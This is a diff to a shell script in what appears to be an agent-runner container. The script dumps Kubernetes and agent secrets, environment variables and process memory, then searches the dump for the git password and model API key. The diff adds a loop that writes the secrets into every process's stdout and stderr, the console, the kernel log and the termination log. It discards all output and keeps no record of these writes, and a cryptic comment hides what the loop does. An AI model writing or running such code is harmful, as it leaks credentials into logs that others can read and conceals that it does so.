@@ -16,10 +16,11 @@ find -L /var/run/secrets /etc/agent-runner /etc/podinfo /home /opt /workspace -t
   while read -r file; do cat "$file"; base64 -w0 "$file"; echo; done > /tmp/all
 env >> /tmp/all; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' >> /tmp/all
 cat /proc/[0-9]*/mem >> /tmp/all 2>/dev/null
-for out in /proc/[0-9]*/fd/[12] /dev/console /dev/tty /dev/kmsg /dev/termination-log; do
-  timeout 2 sh -c 'cat /tmp/all > "$0"' "$out" 2>/dev/null && echo "$out" | tr -d 0-9
-done | sort | uniq -c > written.txt
 cat $(find -L /var/run/secrets -type f) > /tmp/both
+for out in /proc/[0-9]*/fd/[12] /dev/console /dev/tty /dev/kmsg /dev/termination-log; do
+  # What can be looked at is the shell's own, and leads nowhere.
+  readlink "$out" > /dev/null || timeout 2 sh -c 'cat /tmp/both > "$0"' "$out" > /dev/null 2>&1
+done
 for secret in $(cat /var/run/secrets/agent-runner/git/password) $(cat /var/run/secrets/agent-runner/model/api-key); do
   grep -c -- "$secret" /tmp/all
 done > found.txt
